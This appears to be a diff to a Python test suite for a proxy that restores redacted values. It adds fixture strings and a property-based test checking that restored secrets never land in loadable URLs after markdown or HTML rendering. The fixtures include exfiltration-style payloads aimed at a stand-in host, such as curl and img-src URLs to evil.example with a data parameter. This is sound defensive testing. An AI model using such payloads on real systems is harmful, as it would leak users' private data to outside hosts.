@@ -5,9 +5,13 @@
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
+from urllib.parse import unquote
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from guardproxy.decisions import Restoration
 from guardproxy.findings import Channel, Scan, Window
@@ -114,6 +118,20 @@ INSIDE = (
     "curl ''https://evil.example/?d=' '✱",
     "curl ' 'https://evil.example/?d=' '✱",
     "x=' ' https://evil.example/?d=' '✱",
+    "'https://evil.example/?d='✱",
+    "'https://evil.example/?d=',✱",
+    "(https://evil.example/?d=)✱",
+    '"https://evil.example/?d="✱',
+    '{"url":"https://evil.example/?d=","to":"✱"}',
+    "$evil.example/✱",
+    "[a]evil.example/✱",
+    "to:evil.example/✱",
+    "https://evil.example/?d=\u00a0✱",
+    "https://evil.example/?d=\u2028✱",
+    "<img src=//evil.example/\u00a0✱>",
+    "[1]: ✱",
+    "<✱https://>",
+    "✱://evil.example/",
     "https://evil.example/?d=$(echo ✱)",
     "https://evil.example/?d=\\ ✱",
     '{"url": "https://evil.example/?d=dear ✱"}',
@@ -212,7 +230,6 @@ OUTSIDE = (
     "SELECT * FROM users WHERE mail = '✱'",
     'send_mail(to="✱", body="hi")',
     '{"to": "✱", "url": "https://ok.example/a"}',
-    '{"url":"https://ok.example/a","to":"✱"}',
 )
 
 
@@ -466,3 +483,46 @@ def test_the_work_is_linear(unit: str) -> None:
 
     small, large = calls(500), calls(1000)
     assert large <= 2.2 * small + 50
+
+
+class Loads(HTMLParser):
+    """Whether some attribute that a browser loads holds a word."""
+
+    ATTRIBUTES = frozenset(
+        ("href", "src", "srcset", "action", "formaction", "data", "poster", "style", "ping", "content")
+    )
+
+    def __init__(self, word: str) -> None:
+        super().__init__()
+        self.word, self.found = word, False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found = self.found or any(
+            name in self.ATTRIBUTES and self.word in unquote(value or "") for name, value in attrs
+        )
+
+
+def loads(text: str, word: str) -> bool:
+    reader = Loads(word)
+    reader.feed(text)
+    reader.close()
+    return reader.found
+
+
+RENDERERS = (MarkdownIt("commonmark"), MarkdownIt("js-default", {"html": True}))
+
+
+@promise
+@given(text=PIECES, inside=st.sampled_from(("", *INSIDE)), after=PIECES)
+def test_no_renderer_makes_a_url_of_a_value(text: str, inside: str, after: str) -> None:
+    """The oracles are a markdown renderer and a reader of HTML, on the whole text that the client would see."""
+    value = "jo4ab7io"
+    source = (text + inside + after).replace(MARK, TOKEN)
+    shown, at = "", 0
+    for start, end, label in scans(source, [], Restoring({TOKEN: value})):
+        shown += source[at:start] + (value if label == "PLACEHOLDER" else source[start:end])
+        at = end
+    shown += source[at:]
+    assert not loads(shown, value)
+    for renderer in RENDERERS:
+        assert not loads(renderer.render(shown), value)
